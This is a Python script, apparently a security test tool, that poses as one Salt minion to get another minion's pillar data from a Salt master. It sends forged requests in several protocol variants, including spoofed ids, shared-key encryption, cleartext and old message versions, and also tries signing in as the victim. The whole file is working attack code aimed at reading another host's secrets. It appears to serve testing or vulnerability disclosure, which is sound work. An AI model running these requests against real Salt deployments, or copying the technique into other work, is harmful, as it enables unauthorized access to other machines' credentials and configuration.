"""
A minion that lies: with its own key and configuration it asks the master for another minion's pillar, in each way that
the protocol has. Prints an object: way -> "pillar" (it could read one), "sealed" (the master fetched one, but for the
other's key only) or "refused". The way "honest" is its own pillar, to see that the asking is done right.

    thief.py CONFIG-DIRECTORY VICTIM
"""

import json
import os
import sys
import time
import uuid

import salt.channel.client
import salt.config
import salt.crypt
import salt.payload

from salt.ext.tornado.gen import coroutine
from salt.ext.tornado.ioloop import IOLoop


def load(minion):
    return {
        "cmd": "_pillar",
        "id": minion,
        "grains": {"id": minion},
        "saltenv": "base",
        "pillarenv": None,
        "pillar_override": {},
        "extra_minion_data": {},
        "ver": "2",
        "nonce": uuid.uuid4().hex,
        "ts": int(time.time()),
    }


class Thief:
    def __init__(self, conf, loop):
        self.opts = salt.config.minion_config(os.path.join(conf, "minion"))
        self.opts["master_uri"] = f"tcp://{self.opts['master']}:{self.opts['master_port']}"
        self.me = self.opts["id"]
        self.channel = salt.channel.client.AsyncReqChannel.factory(self.opts, io_loop=loop)

    def ways(self, victim):
        """The messages to try, by name."""
        auth = self.channel.auth
        token = {"tok": auth.gen_token(b"salt")}
        session, shared = auth.session_crypticle, auth.crypticle
        new = {"enc": "aes", "version": 3, "enc_algo": self.opts["encryption_algorithm"]}
        new["sig_algo"] = self.opts["signing_algorithm"]
        old = {"enc": "aes"}
        found = {
            "both ids": {**new, "id": victim, "load": session.dumps({**load(victim), **token})},
            "inner id": {**new, "id": self.me, "load": session.dumps({**load(victim), **token})},
            "shared key": {**new, "id": victim, "load": shared.dumps({**load(victim), **token})},
            "clear": {"enc": "clear", "version": 3, "load": load(victim)},
            "clear, old": {"enc": "clear", "load": load(victim)},
        }
        for version in (0, 1, 2):
            found[f"version {version}"] = {**old, "version": version, "load": shared.dumps(load(victim))}
            found[f"version {version}, my token"] = {
                **old,
                "version": version,
                "load": shared.dumps({**load(victim), **token}),
            }
        return found

    def judge(self, answer):
        if not isinstance(answer, dict) or "pillar" not in answer:
            return self.judge_other(answer)
        try:
            key = self.channel.auth.get_keys().decrypt(answer["key"], self.opts["encryption_algorithm"])
            return "pillar" if salt.crypt.Crypticle(self.opts, key).loads(answer["pillar"]) else "refused"
        except Exception:  # whatever a wrong key makes of it
            return "sealed"

    def judge_other(self, answer):
        """A message under the shared key, in which a pillar could be just as well."""
        for crypticle in (self.channel.auth.crypticle, self.channel.auth.session_crypticle):
            try:
                text = str(crypticle.loads(answer))
                return "pillar" if "secret" in text else "refused"
            except Exception:
                continue
        return "pillar" if "private" in str(answer) else "refused"

    @coroutine
    def try_all(self, victim):
        seen = {}
        yield self.channel.auth.authenticate()
        own = yield self.channel.crypted_transfer_decode_dictentry(load(self.me), dictkey="pillar")
        seen["honest"] = "pillar" if "baas" in own else "refused"
        for way, message in self.ways(victim).items():
            try:
                answer = yield self.channel.transport.send(message, timeout=10)
            except Exception as exc:
                answer = repr(exc)
            seen[way] = self.judge(answer)
        seen["sign in"] = yield self.sign_in(victim)
        return seen

    @coroutine
    def sign_in(self, victim):
        """As the victim, with our own key."""
        auth = self.channel.auth
        auth.opts = {**auth.opts, "id": victim}
        message = {"enc": "clear", "version": 3, "load": auth.minion_sign_in_payload()}
        answer = yield self.channel.transport.send(message, timeout=10)
        answer = answer.get("load", answer) if isinstance(answer, dict) else answer
        answer = salt.payload.loads(answer) if isinstance(answer, bytes) else answer
        return "pillar" if "aes" in answer else "refused"


if __name__ == "__main__":
    io_loop = IOLoop()
    io_loop.make_current()
    print(json.dumps(io_loop.run_sync(lambda: Thief(sys.argv[1], io_loop).try_all(sys.argv[2]))))
